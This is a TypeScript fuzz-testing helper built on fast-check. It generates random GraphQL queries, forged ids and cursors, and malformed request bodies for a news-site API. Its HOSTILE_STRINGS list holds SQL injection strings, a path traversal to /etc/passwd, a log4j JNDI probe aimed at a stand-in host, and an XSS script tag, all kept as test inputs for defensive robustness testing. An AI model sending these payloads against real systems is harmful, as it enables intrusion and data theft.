import fc from 'fast-check';
import {
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLInterfaceType,
  type GraphQLObjectType,
  type GraphQLSchema,
  type GraphQLUnionType,
  getNamedType,
  isAbstractType,
  isCompositeType,
  isEnumType,
  isInputObjectType,
  isListType,
  isInputType,
  isNonNullType,
  isUnionType,
  type OperationDefinitionNode,
  typeFromAST,
} from 'graphql';

// Generators of hostile and plausible input for the fuzz tests. The seed is fixed so that every
// run of the suite tries the same cases; FUZZ_SEED and FUZZ_RUNS_FACTOR explore further by hand.

/** @default 4242 */
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 4242);

/** How many cases a property tries: `base` in CI, scaled by FUZZ_RUNS_FACTOR when set. */
export function fuzzRuns(base: number): number {
  return Math.max(1, Math.round(base * Number(process.env.FUZZ_RUNS_FACTOR ?? 1)));
}

/** Values that exist in the store under test, so that generated requests reach real rows. */
export interface KnownValues {
  ids: string[];
  slugs: string[];
  cursors: string[];
  issueNumbers: number[];
  newsletters: string[];
  dateTimes: string[];
}

/**
 * Inputs that the generators leave out, because a test elsewhere pins them as a known bug (see
 * fuzz.test.ts, "known bugs"): `nul-in-text`, text with a NUL character; `out-of-range-keys`,
 * ids past the integer columns' range and cursors of the right kind with values no row can have.
 */
export type KnownBug = 'nul-in-text' | 'out-of-range-keys';

export interface GeneratorOptions {
  /** Also make mistakes a client could make: wrong types, nulls where none are allowed, unknown fields. @default true */
  mistakes?: boolean;
  /** @default none */
  avoid?: readonly KnownBug[];
}

/** An enum value: bare in a GraphQL literal, a string in variables JSON. */
export class EnumValue {
  constructor(readonly name: string) {}
}

export type InputValue = null | boolean | number | string | EnumValue | InputValue[] | { [field: string]: InputValue };

/** The value as a GraphQL literal. */
export function printLiteral(value: InputValue): string {
  if (value === null) return 'null';
  if (value instanceof EnumValue) return value.name;
  if (Array.isArray(value)) return `[${value.map(printLiteral).join(', ')}]`;
  if (typeof value === 'object') {
    return `{ ${Object.entries(value)
      .map(([field, inner]) => `${field}: ${printLiteral(inner)}`)
      .join(', ')} }`;
  }
  if (typeof value === 'number') return Object.is(value, -0) ? '0' : String(value);
  // JSON's string escapes are GraphQL's too.
  return typeof value === 'string' ? JSON.stringify(value) : String(value);
}

/** The value as it goes into `variables`. */
export function toJson(value: InputValue): unknown {
  if (value instanceof EnumValue) return value.name;
  if (Array.isArray(value)) return value.map(toJson);
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, toJson(v)]));
  return value;
}

/** Text that has broken parsers, query builders and full-text engines before. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'red\u0000mosque',
  '\\',
  '"',
  "'",
  "'; drop table articles; --",
  '" OR 1=1 --',
  '%',
  '_',
  '*',
  'NEAR(red mosque)',
  'red OR mosque',
  '-red',
  'headline:red',
  '"unterminated',
  '((((',
  '^',
  'a & b | !c <-> d:*',
  '\uFFFF',
  '\uD800',
  '\u202Eevil',
  '🙂🙂',
  'İstanbul ß Ⅻ',
  '\t\r\n',
  ' '.repeat(300),
  'a'.repeat(10_000),
  'word '.repeat(2_000),
  '../../etc/passwd',
  '%00',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j probe, sent as plain text on purpose.
  '${jndi:ldap://example.org/a}',
  '<script>alert(1)</script>',
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x10',
];

const DATE_TIMES = [
  '2007-07-17T19:46:00+01:00',
  '2007-07-17T18:46:00.000Z',
  '2007-02-30T00:00:00Z',
  '2007-07-17T25:00:00Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '2007-07-17',
  '2007-07-17T19:46',
  '1184701560',
  'yesterday',
  '',
];

const DATES = ['2007-07-21', '2007-02-30', '0000-00-00', '+275760-09-13', '2007-07-21T00:00:00Z', 'today', ''];

const int32 = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: -3, max: 120 }) },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 100, 101, 1000, 10_000, 2 ** 31 - 1, -(2 ** 31)) },
);
/** Numbers that are not Int at all: refused while validating or coercing. */
const notInt32 = fc.constantFrom(2 ** 31, 2 ** 53 + 2, 1.5, -0.5, 1e21);

const INT32_MAX = 2 ** 31 - 1;

/** A base64 text of `content`, as global ids (base64) and cursors (base64url) are made. */
const base64 = (content: string, url = false) => Buffer.from(content, 'utf8').toString(url ? 'base64url' : 'base64');

function stringArbitraries(known: KnownValues, avoid: ReadonlySet<KnownBug>) {
  const allowed = (text: string) => !(avoid.has('nul-in-text') && text.includes('\u0000'));
  const pick = (values: string[], fallback: fc.Arbitrary<string>) => (values.length > 0 ? fc.constantFrom(...values) : fallback);
  const generic = fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
      { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
      { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
      // A plausible value with a control character in it.
      {
        weight: 1,
        arbitrary: fc.tuple(pick(known.slugs, fc.string()), fc.constantFrom('\u0000', '\u0008', '\u001f', '\u007f')).map(([text, control]) => text + control),
      },
      { weight: 1, arbitrary: fc.constantFrom('red', 'strike', 'buses', 'the and or not', 'Red Mosque') },
    )
    .filter(allowed);
  const typeNames = ['Article', 'Author', 'Issue', 'Newsletter', 'NewsletterSubscription', 'Nope', ''];
  // Ids of the right shape that name other types, nothing, or numbers past every column's range.
  const forgedId = fc
    .tuple(
      fc.constantFrom(...typeNames),
      fc.oneof(
        fc.constantFrom('1', '0', '-1', '9999999999999999', '2147483648', '1e3', '00001', 'a'.repeat(32), '0123456789abcdef0123456789abcdef'),
        fc.string({ maxLength: 20 }),
      ),
    )
    .filter(([, id]) => !(avoid.has('out-of-range-keys') && /^\d+$/.test(id) && Number(id) > INT32_MAX))
    .map(([type, id]) => base64(`${type}:${id}`));
  const id = fc.oneof({ weight: 2, arbitrary: pick(known.ids, generic) }, { weight: 2, arbitrary: forgedId }, { weight: 1, arbitrary: generic });
  // Cursors of the right shape whose kind or values are wrong: other orders, strings for numbers,
  // dates that are not dates, numbers past every column's range.
  const forgedCursor = fc
    .tuple(
      avoid.has('out-of-range-keys')
        ? fc.constant('no-such-order')
        : fc.constantFrom('published-desc', 'published-asc', 'search', 'issue-number-desc', 'author-name-asc', 'no-such-order'),
      fc.array(
        fc.oneof(fc.constantFrom(...DATE_TIMES), fc.constantFrom(0, -1, 1e308, 2 ** 31, Number('9007199254740993'), 1.5), fc.jsonValue({ maxDepth: 1 })),
        {
          maxLength: 3,
        },
      ),
    )
    .map(([kind, values]) => base64(JSON.stringify([kind, ...values]), true));
  const cursor = fc.oneof(pick(known.cursors, generic), forgedCursor, generic);
  const email = fc.oneof(
    fc.emailAddress(),
    fc.constantFrom('reader@example.org', ' Reader@EXAMPLE.org ', 'reader@bücher.example', 'a@b', '@', 'a@@b.org', `${'x'.repeat(70)}@example.org`),
    generic,
  );
  return {
    generic,
    id,
    byName: {
      id,
      after: cursor,
      slug: fc.oneof(pick(known.slugs, generic), generic),
      authorSlug: fc.oneof(pick(known.slugs, generic), generic),
      newsletter: fc.oneof(pick(known.newsletters, generic), generic),
      email,
      token: fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{0,60}$/), generic),
    } as Record<string, fc.Arbitrary<string>>,
  };
}

/** Values for input types: mostly of the right type, sometimes of the wrong one, or null where null is not allowed. */
export class InputValues {
  readonly mistakes: boolean;
  private readonly strings: ReturnType<typeof stringArbitraries>;
  private readonly ints: fc.Arbitrary<number>;
  private readonly dateTimes: fc.Arbitrary<string>;
  private readonly wrong: fc.Arbitrary<InputValue>;

  constructor(known: KnownValues, { mistakes = true, avoid = [] }: GeneratorOptions = {}) {
    this.mistakes = mistakes;
    this.strings = stringArbitraries(known, new Set(avoid));
    const ints = known.issueNumbers.length > 0 ? fc.oneof(int32, fc.constantFrom(...known.issueNumbers)) : int32;
    this.ints = mistakes ? fc.oneof({ weight: 8, arbitrary: ints }, { weight: 1, arbitrary: notInt32 }) : ints;
    this.dateTimes = fc.oneof(
      fc.constantFrom(...DATE_TIMES),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
      known.dateTimes.length > 0 ? fc.constantFrom(...known.dateTimes) : fc.constantFrom(...DATE_TIMES),
    );
    this.wrong = fc.oneof(
      fc.constant(null),
      fc.boolean(),
      int32,
      fc.constantFrom('1', 'true', ''),
      fc.constant<InputValue>([]),
      fc.constant<InputValue>({ nope: 1 }),
      fc.constant(new EnumValue('NOT_A_VALUE')),
    );
  }

  /** A value for an argument or input field called `name` of the given type. */
  of(type: GraphQLInputType, name: string): fc.Arbitrary<InputValue> {
    if (isNonNullType(type)) {
      const value = this.ofNullable(type.ofType, name);
      return this.mistakes ? fc.oneof({ weight: 15, arbitrary: value }, { weight: 1, arbitrary: this.wrong }) : value;
    }
    return fc.oneof(
      { weight: 10, arbitrary: this.ofNullable(type, name) },
      { weight: 1, arbitrary: fc.constant(null) },
      ...(this.mistakes ? [{ weight: 1, arbitrary: this.wrong }] : []),
    );
  }

  private ofNullable(type: GraphQLInputType, name: string): fc.Arbitrary<InputValue> {
    if (isNonNullType(type)) return this.ofNullable(type.ofType, name);
    if (isListType(type)) return fc.array(this.of(type.ofType, name), { maxLength: 3 });
    if (isEnumType(type)) {
      const values = fc.constantFrom(...type.getValues().map((value) => new EnumValue(value.name)));
      if (!this.mistakes) return values;
      return fc.oneof(
        { weight: 6, arbitrary: values },
        // A string where an enum belongs, and a name that is not a value.
        { weight: 1, arbitrary: fc.constantFrom<InputValue>(type.getValues()[0]?.name ?? 'X', new EnumValue('nope')) },
      );
    }
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields());
      const record = fc.record(Object.fromEntries(fields.map((field) => [field.name, this.of(field.type, field.name)])), {
        requiredKeys: fields.filter((field) => isNonNullType(field.type)).map((field) => field.name),
      }) as fc.Arbitrary<Record<string, InputValue>>;
      if (!this.mistakes) return record;
      return fc.oneof({ weight: 8, arbitrary: record }, { weight: 1, arbitrary: record.map((value) => ({ ...value, notAField: 'x' })) });
    }
    switch (type.name) {
      case 'Int':
        return this.ints;
      case 'Float':
        return fc.double({ noNaN: true, noDefaultInfinity: true });
      case 'Boolean':
        return fc.boolean();
      case 'ID':
        return fc.oneof({ weight: 4, arbitrary: this.strings.id }, { weight: 1, arbitrary: this.ints });
      case 'DateTime':
        return this.dateTimes;
      case 'Date':
        return fc.oneof(
          fc.constantFrom(...DATES),
          fc.date({ noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)),
        );
      default:
        return this.strings.byName[name] ?? this.strings.generic;
    }
  }
}

type Composite = GraphQLObjectType | GraphQLInterfaceType | GraphQLUnionType;

/** One item of a selection set: a field (its response key given when the set is put together), or a fragment (`name` ''). */
interface Item {
  name: string;
  alias: boolean;
  /** Keeps made-up aliases apart between a selection set and the fragments within it. */
  salt: number;
  text: string;
}

const plain = (text: string): Item => ({ name: text.split(/\W/, 1)[0] ?? text, alias: false, salt: 0, text });

/**
 * GraphQL documents built by walking the schema: random selections of fields with arguments,
 * aliases, directives, inline and named fragments, to a bounded depth. With `mistakes`, also
 * fields, arguments, directives and operations that do not exist, and values of the wrong type;
 * without, documents that validate (but for hostile values of the right type), so that they run.
 */
export class Operations {
  private readonly selections = new Map<string, fc.Arbitrary<string>>();
  private readonly mistakes: boolean;

  constructor(
    private readonly schema: GraphQLSchema,
    private readonly values: InputValues,
  ) {
    this.mistakes = values.mistakes;
  }

  /** Documents with one operation, `depth` levels of objects deep at most. */
  document(depth = 4): fc.Arbitrary<string> {
    const query = this.schema.getQueryType();
    if (!query) throw new Error('the schema has no query type');
    const mutation = this.schema.getMutationType();
    const choices: Array<fc.WeightedArbitrary<string>> = [
      { weight: 6, arbitrary: this.selectionSet(query, depth) },
      { weight: 2, arbitrary: this.selectionSet(query, depth).map((selection) => `query Fuzz ${selection}`) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(this.selectionSet(query, depth - 1), this.selectionSet(query, depth - 1, true))
          .map(([own, part]) => `query Fuzz { ...Part ${own.slice(1, -1)} } fragment Part on Query ${part}`),
      },
    ];
    if (mutation) choices.push({ weight: 3, arbitrary: this.selectionSet(mutation, depth).map((selection) => `mutation Fuzz ${selection}`) });
    if (this.mistakes) {
      choices.push({
        weight: 1,
        arbitrary: fc.constantFrom(
          'subscription { latestIssue { number } }',
          '{ ...Missing }',
          '{}',
          'query { latestIssue { number } } query { latestIssue { number } }',
          'fragment Loop on Query { ...Loop } { ...Loop }',
        ),
      });
    }
    return fc.oneof(...choices);
  }

  /** `aliasAll` gives every field a made-up alias, so that a fragment's fields never clash with those beside it. */
  private selectionSet(type: Composite, depth: number, aliasAll = false): fc.Arbitrary<string> {
    const key = `${type.name}/${depth}/${aliasAll}`;
    const known = this.selections.get(key);
    if (known) return known;
    const items: Array<fc.WeightedArbitrary<Item>> = [{ weight: 1, arbitrary: fc.constant(plain('__typename')) }];
    if (this.mistakes) {
      items.push({ weight: 1, arbitrary: fc.constantFrom('notAField', '__typename @skip(if: true)', '__schema').map(plain) });
    }
    if (!isUnionType(type)) {
      const fields = Object.values(type.getFields()).map((field) => this.field(field, depth));
      items.push({ weight: 14, arbitrary: fc.oneof(...fields) });
    }
    if (isAbstractType(type)) {
      items.push({ weight: 4, arbitrary: fc.oneof(...this.schema.getPossibleTypes(type).map((object) => this.fragmentOn(object, depth))) });
    } else if (depth > 0) {
      items.push({ weight: 1, arbitrary: this.fragmentOn(type, depth) });
    }
    const selectionSet = fc.array(fc.oneof(...items), { minLength: 1, maxLength: 4 }).map((selected) => {
      const keys = new Set<string>();
      const rendered = selected.map((item) => {
        if (item.name === '' || item.name === '__typename') return item.text;
        const responseKey = aliasAll || item.alias || keys.has(item.name) ? `${item.name}_${item.salt}` : item.name;
        keys.add(responseKey);
        return responseKey === item.name ? item.text : `${responseKey}: ${item.text}`;
      });
      return `{ ${rendered.join(' ')} }`;
    });
    this.selections.set(key, selectionSet);
    return selectionSet;
  }

  private fragmentOn(type: GraphQLObjectType, depth: number): fc.Arbitrary<Item> {
    // Built on first use (chain): an eager walk would build every type at every depth up front.
    const selection = depth > 0 ? fc.constant(null).chain(() => this.selectionSet(type, depth - 1, true)) : fc.constant('{ __typename }');
    return selection.map((inner) => ({ name: '', alias: false, salt: 0, text: `... on ${type.name} ${inner}` }));
  }

  private field(field: GraphQLField<unknown, unknown>, depth: number): fc.Arbitrary<Item> {
    const args = field.args.map((arg) => {
      const given = this.values.of(arg.type, arg.name).map((value) => `${arg.name}: ${printLiteral(value)}`);
      if (isNonNullType(arg.type)) return this.mistakes ? fc.option(given, { freq: 20 }) : given;
      return fc.option(given, { freq: 2 });
    });
    const rarely = (text: string) => fc.oneof({ weight: 30, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constant(text) });
    const unknownArg = this.mistakes ? rarely('notAnArgument: 1') : fc.constant('');
    const named = getNamedType(field.type);
    let selection: fc.Arbitrary<string>;
    if (isCompositeType(named)) {
      selection = depth > 0 ? fc.constant(null).chain(() => this.selectionSet(named, depth - 1)) : fc.constant('{ __typename }');
      // An object without a selection set does not validate.
      if (this.mistakes) selection = fc.oneof({ weight: 30, arbitrary: selection }, { weight: 1, arbitrary: fc.constant('') });
    } else {
      // Nor does a selection set on a scalar.
      selection = this.mistakes ? rarely('{ __typename }') : fc.constant('');
    }
    const directives = ['@include(if: true)', '@skip(if: false)', ...(this.mistakes ? ['@skip(if: "yes")', '@nope', '@deprecated'] : [])];
    const directive = fc.oneof({ weight: 20, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom(...directives) });
    return fc.tuple(fc.boolean(), fc.nat(9999), fc.tuple(...args), unknownArg, directive, selection).map(([alias, salt, given, extra, marks, sub]) => {
      const list = [...given, extra].filter((arg): arg is string => arg !== null && arg !== '');
      const text = `${field.name}${list.length > 0 ? `(${list.join(', ')})` : ''} ${marks} ${sub}`.replace(/\s+/g, ' ').trim();
      return { name: field.name, alias: alias && salt % 2 === 0, salt, text };
    });
  }
}

/** Documents as `Operations` makes them: three that should run for one with mistakes in it. */
export function documents(schema: GraphQLSchema, known: KnownValues, avoid: readonly KnownBug[] = []): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: new Operations(schema, new InputValues(known, { mistakes: false, avoid })).document() },
    { weight: 1, arbitrary: new Operations(schema, new InputValues(known, { mistakes: true, avoid })).document() },
  );
}

/**
 * `variables` for an operation: per variable a value of its type (or of the wrong one), any JSON
 * at all, or nothing; now and then a variable it does not declare, or variables that are not an object.
 */
export function variablesFor(operation: OperationDefinitionNode, schema: GraphQLSchema, values: InputValues): fc.Arbitrary<unknown> {
  const definitions = operation.variableDefinitions ?? [];
  const perVariable = definitions.map((definition) => {
    const type = typeFromAST(schema, definition.type);
    if (!type || !isInputType(type)) throw new Error(`variable $${definition.variable.name.value} has no input type in the schema`);
    return fc.option(
      fc.oneof({ weight: 4, arbitrary: values.of(type, definition.variable.name.value).map(toJson) }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) }),
      { freq: 8, nil: undefined },
    );
  });
  const declared = fc
    .tuple(...perVariable)
    .map((given) => Object.fromEntries(definitions.flatMap((definition, i) => (given[i] === undefined ? [] : [[definition.variable.name.value, given[i]]]))));
  const undeclared = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 2 });
  return fc.oneof(
    { weight: 12, arbitrary: fc.tuple(declared, undeclared).map(([given, extra]) => ({ ...extra, ...given })) },
    { weight: 1, arbitrary: fc.oneof(fc.constant(null), fc.jsonValue({ maxDepth: 1 })) },
  );
}

/** Bodies no client should send: random bytes, cut-off JSON, JSON of the wrong shape, nesting 12,000 deep. */
export function malformedBodies(): fc.Arbitrary<Uint8Array | string> {
  const valid = JSON.stringify({ query: '{ latestIssue { number } }' });
  return fc.oneof(
    fc.uint8Array({ maxLength: 300 }),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.nat({ max: valid.length - 1 }).map((end) => valid.slice(0, end)),
    fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)),
    fc
      .record({ query: fc.jsonValue({ maxDepth: 2 }), variables: fc.jsonValue({ maxDepth: 2 }), operationName: fc.jsonValue({ maxDepth: 1 }) })
      .map((value) => JSON.stringify(value)),
    fc.nat({ max: 12_000 }).map((depth) => `{"query":"{ __typename }","variables":{"a":${'['.repeat(depth)}${']'.repeat(depth)}}}`),
    fc.nat({ max: 12_000 }).map((depth) => '['.repeat(depth)),
  );
}

export const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/graphql',
  'application/graphql-response+json',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=----x',
  'text/plain',
  'text/html',
  '*/*',
  'application/',
  ';;;',
];

export const ACCEPTS = [
  'application/json',
  'application/graphql-response+json',
  'application/graphql-response+json, application/json;q=0.9',
  'text/html',
  'text/event-stream',
  'multipart/mixed',
  '*/*',
  'application/xml',
  'application/json;q=0',
  ',,,',
];

/** A header value node:http will send: printable ASCII and Latin-1, no line breaks. */
export const headerValue = (maxLength = 60) =>
  fc.string({
    unit: fc.oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0xa0, max: 0xff })).map((code) => String.fromCharCode(code)),
    maxLength,
  });
